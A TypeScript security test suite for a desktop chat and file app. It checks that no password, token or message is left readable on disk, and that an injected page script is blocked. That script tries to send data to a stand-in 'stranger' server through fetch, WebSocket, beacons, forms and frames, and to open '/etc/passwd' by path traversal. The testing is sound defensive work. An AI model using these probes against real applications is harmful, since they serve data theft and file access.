import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import type { Agent } from '../../demo/agent.ts';
import { makeFile } from '../../demo/main-job.ts';
import { until } from '../../demo/until.ts';
import { DEMO_PASSWORD } from '../../stack/people.ts';
import { openStranger, type Stranger } from '../../stack/stranger.ts';
import { bytesBelow } from './bytes-below.ts';
import { type OneAgent, SALON } from './one-agent.ts';

/** Words that stand nowhere else, not even in the program. */
const SAID = 'Xylophone-quetsche-7731 au parc';
const WRITTEN = 'contenu-confidentiel-4402';

const Refused = z.object({ ok: z.literal(false) });

/**
 * What somebody finds who takes the disk away, and what a stranger's script reaches in the page. Leaves the program as the
 * script left it.
 */
export function attack(here: () => OneAgent): void {
  let stranger: Stranger;

  beforeAll(async () => {
    stranger = await openStranger();
  });
  afterAll(() => stranger?.close());

  test('after a day of work no secret and no message lies readable on the disk', async () => {
    const agent = here();
    const { world, nadia } = agent;
    const code = agent.codes.nadia;
    const { accessToken, storageKey } = await agent.session();
    expect(accessToken.length).toBeGreaterThan(20);
    await nadia.openSalon(SALON);
    await nadia.write(SALON, SAID);
    await nadia.reads(SAID);
    const file = await makeFile(nadia.profile, 'Notes.txt', 40_000);
    await nadia.dropOnConversation(file);
    await nadia.reads('Notes.txt');
    await nadia.composer(SALON).fill(WRITTEN);
    await until('the draft is kept', () => keptDrafts(nadia));
    await agent.close();

    const secrets = {
      DEMO_PASSWORD,
      accessToken,
      storageKey,
      code,
      codeBare: code.replaceAll(' ', ''),
      SAID,
      WRITTEN,
    };
    const found: string[] = [];
    const appPasswords = new Set<string>();
    for (const [name, bytes] of await bytesBelow(nadia.profile)) {
      if (name.startsWith(join(nadia.profile, 'keyring')) || name.startsWith(join(nadia.profile, 'browser')))
        continue;
      for (const [secret, text] of Object.entries(secrets))
        if (spellings(text).some((spelled) => bytes.includes(spelled)))
          found.push(`${secret} in ${name.slice(nadia.profile.length)}`);
      for (const [candidate] of bytes
        .toString('latin1')
        .matchAll(/(?<![A-Za-z0-9])[A-Za-z0-9]{72}(?![A-Za-z0-9])/g))
        appPasswords.add(candidate);
    }
    for (const candidate of appPasswords) {
      const authorization = `Basic ${Buffer.from(`${nadia.person.name}:${candidate}`).toString('base64')}`;
      const answer = await fetch(`${world.stack.nextcloud.url}/ocs/v2.php/cloud/user?format=json`, {
        headers: { authorization, 'ocs-apirequest': 'true' },
      });
      if (answer.status === 200) found.push('a working app password');
    }
    expect(found).toEqual([]);
  });

  describe('a script of a stranger in the page', () => {
    beforeAll(() => here().start());

    test('reaches no other server, by none of the ways there are', async () => {
      const { nadia } = here();
      const failed = await nadia.page.evaluate(async (url) => {
        const outcomes: Record<string, string> = {};
        const attempt = async (name: string, run: () => unknown): Promise<void> => {
          try {
            await run();
            outcomes[name] = 'went through';
          } catch {
            outcomes[name] = 'refused';
          }
        };
        const loads = (element: HTMLElement): Promise<void> =>
          new Promise((resolve, reject) => {
            element.addEventListener('load', () => resolve());
            element.addEventListener('error', () => reject(new Error('error')));
            document.body.append(element);
          });
        await attempt('fetch', () => fetch(`${url}/fetch`));
        await attempt('no-cors fetch', () => fetch(`${url}/no-cors`, { mode: 'no-cors' }));
        await attempt(
          'websocket',
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(`${url.replace('http', 'ws')}/socket`);
              socket.addEventListener('open', resolve);
              socket.addEventListener('error', reject);
            }),
        );
        await attempt('image', () => loads(Object.assign(new Image(), { src: `${url}/image` })));
        await attempt('script', () =>
          loads(Object.assign(document.createElement('script'), { src: `${url}/script` })),
        );
        await attempt('style', () =>
          loads(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${url}/style` })),
        );
        await attempt(
          'worker',
          () =>
            new Promise((resolve, reject) => {
              const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
              worker.addEventListener('message', resolve);
              worker.addEventListener('error', reject);
            }),
        );
        await attempt('eval', () => {
          // oxlint-disable-next-line typescript/no-implied-eval -- that is the attack
          return new Function('return 1')() as unknown;
        });
        navigator.sendBeacon(`${url}/beacon`, 'x');
        const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' });
        document.body.append(form);
        form.submit();
        const frame = Object.assign(document.createElement('iframe'), { src: `${url}/frame` });
        document.body.append(frame);
        const inline = document.createElement('script');
        inline.textContent = 'globalThis.ranInline = true';
        document.body.append(inline);
        return { outcomes, inline: 'ranInline' in globalThis, foreign: 'ranForeignScript' in globalThis };
      }, stranger.url);
      expect(failed).toEqual({
        outcomes: Object.fromEntries(
          ['fetch', 'no-cors fetch', 'websocket', 'image', 'script', 'style', 'worker', 'eval'].map(
            (name) => [name, 'refused'],
          ),
        ),
        inline: false,
        foreign: false,
      });
      expect(stranger.reached).toEqual([]);
    });

    test('gets nothing from main but what the contract has, and no path of its own choice', async () => {
      const { nadia } = here();
      const answers = await nadia.page.evaluate(async () => {
        const { traboule } = window;
        const salonId = '!x:localhost';
        return {
          unknown: await traboule.invoke('toString', {}),
          callWindow: await traboule.invoke('callWindow.context', undefined),
          outside: await traboule.invoke('files.open', { salonId, path: '../../../etc/passwd' }),
          invented: await traboule.invoke('files.addFiles', { salonId, files: [crypto.randomUUID()] }),
          made: await traboule.offer([new File(['x'], '/etc/passwd')]),
          link: await traboule.invoke('app.openLink', { url: 'file:///etc/passwd' }),
        };
      });
      expect(answers.made).toEqual([null]);
      const refused = Object.entries(answers).filter(([name]) => name !== 'made');
      expect(refused.filter(([, answer]) => !Refused.safeParse(answer).success)).toEqual([]);
    });

    test('can not leave the page, open a window or take a permission', async () => {
      const { nadia } = here();
      const before = nadia.page.url();
      const windows = nadia.program.app.windows().length;
      const asked = await nadia.page.evaluate(async (url) => {
        const opened = window.open(`${url}/window`);
        const name = async (run: () => Promise<unknown>): Promise<string> => {
          try {
            await run();
            return 'given';
          } catch {
            return 'refused';
          }
        };
        return {
          opened: opened === null ? 'refused' : 'given',
          camera: await name(() => navigator.mediaDevices.getUserMedia({ video: true })),
          microphone: await name(() => navigator.mediaDevices.getUserMedia({ audio: true })),
          screen: await name(() => navigator.mediaDevices.getDisplayMedia()),
          clipboard: await name(() => navigator.clipboard.readText()),
          place: await name(
            () =>
              new Promise((resolve, reject) => {
                navigator.geolocation.getCurrentPosition(resolve, reject, { timeout: 2000 });
              }),
          ),
          notifications: await Notification.requestPermission().then((answer) =>
            answer === 'granted' ? 'given' : 'refused',
          ),
        };
      }, stranger.url);
      expect(Object.entries(asked).filter(([, answer]) => answer !== 'refused')).toEqual([]);
      expect(nadia.page.url()).toBe(before);
      expect(nadia.program.app.windows()).toHaveLength(windows);
      expect(stranger.reached).toEqual([]);
      // What may be opened is handed to the system's browser, as a click on a link would be.
      await nadia.links.next((address) => address === `${stranger.url}/window`, 15_000);
      await nadia.page.evaluate((url) => {
        location.href = `${url}/navigation`;
      }, stranger.url);
      expect(await nadia.page.evaluate(() => location.href)).toBe(before);
      expect(stranger.reached).toEqual([]);
    });
  });
}

/** Whether a draft is kept on this PC. */
function keptDrafts({ page }: Agent): Promise<boolean> {
  return page.evaluate(async () => {
    const settled = <T>(request: IDBRequest<T>): Promise<T> =>
      new Promise((resolve, reject) => {
        request.addEventListener('success', () => resolve(request.result));
        request.addEventListener('error', () => reject(request.error ?? new Error('IndexedDB')));
      });
    const keysOf = async (name: string): Promise<IDBValidKey[]> => {
      const database = await settled(indexedDB.open(name));
      const isOurs = database.objectStoreNames.contains('sealed');
      const keys = isOurs
        ? await settled(database.transaction('sealed').objectStore('sealed').getAllKeys())
        : [];
      database.close();
      return keys;
    };
    const names = (await indexedDB.databases()).map(({ name = '' }) => name);
    const pages = names.filter((name) => name.startsWith('traboule-page'));
    const keys = await Promise.all(pages.map(keysOf));
    return keys.flat().some((key) => typeof key === 'string' && key.startsWith('drafts/'));
  });
}

/** As Chromium's and our own stores might hold a text. */
function spellings(text: string): Buffer[] {
  return [
    Buffer.from(text),
    Buffer.from(text, 'utf16le'),
    Buffer.from(Buffer.from(text).toString('base64').slice(2, -4)),
  ];
}
